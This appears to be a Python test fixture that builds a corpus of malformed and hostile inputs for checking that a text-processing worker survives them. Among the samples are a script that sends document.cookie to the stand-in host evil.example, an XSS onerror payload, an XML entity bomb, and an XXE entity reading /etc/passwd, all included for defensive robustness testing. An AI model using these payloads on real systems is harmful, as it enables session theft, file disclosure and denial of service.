"""A corpus of hostile inputs: each a (name, bytes) a worker must survive."""

from __future__ import annotations

import json
import random


def corpus(max_bytes: int = 1_000_000) -> list[tuple[str, bytes]]:
    """Nasty messages; sizes are relative to the worker's byte limit so the test exercises both sides of it."""
    rng = random.Random(5)
    sentence = "The council met on Tuesday to discuss the budget for the coming year. "
    return [
        ("random_bytes", rng.randbytes(4096)),
        ("invalid_utf8", b"Valid start \xc3\x28 then \xa0\xa1 broken \xff"),
        ("overlong_utf8", b"\xc0\xaf\xe0\x80\xaf"),
        ("huge_json", json.dumps({"body": sentence * ((max_bytes - 100) // len(sentence))}).encode()),
        ("deep_json", b'{"a":' * 50_000 + b"1" + b"}" * 50_000),
        ("json_array_bomb", b"[" + b"[]," * 200_000 + b"[]]"),
        ("nested_html_100k", b"<html><body>" + b"<div>" * 100_000 + b"Deep text here." + b"</div>" * 100_000),
        ("body_50mb", b"A" * 50_000_000),
        ("one_word_1mb", b"x" * (max_bytes - 10)),
        ("zero_width_rtl", ("Normal text \u200b\u200c\u200d\u2060 with \u202eRTL override\u202c and \u200f marks. "
                            * 20).encode()),
        ("control_chars", bytes(range(0, 32)) * 10 + b" and some words after the controls."),
        ("scripts_iframes", (b"<html><body><script>document.location='http://evil.example/'+document.cookie</script>"
                             b"<iframe src='http://evil.example/'></iframe><p>" + sentence.encode() * 5 +
                             b"</p><img src=x onerror=alert(1)></body></html>")),
        ("xml_entity_bomb", (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 '
                             b'"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><html><body><p>&lol2;</p></body></html>')),
        ("external_entity", (b'<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><html><body><p>&xxe; '
                             + sentence.encode() + b"</p></body></html>")),
        ("null_bytes_json", b'{"body": "text\\u0000with\\u0000nulls in the middle of words"}'),
        ("json_wrong_types", b'{"body": ["a", "list"], "title": {"x": 1}, "published_at": "not a date"}'),
        ("only_whitespace_unicode", "\u3000\u00a0\u2003\n\t".encode()),
        ("emoji_flood", ("🔥" * 5000).encode()),
        ("mixed_scripts", "Москва 北京 القاهرة Αθήνα मुंबई ".encode() * 200),
        ("long_line_no_spaces_html", b"<p>" + b"y" * 500_000 + b"</p>"),
    ]
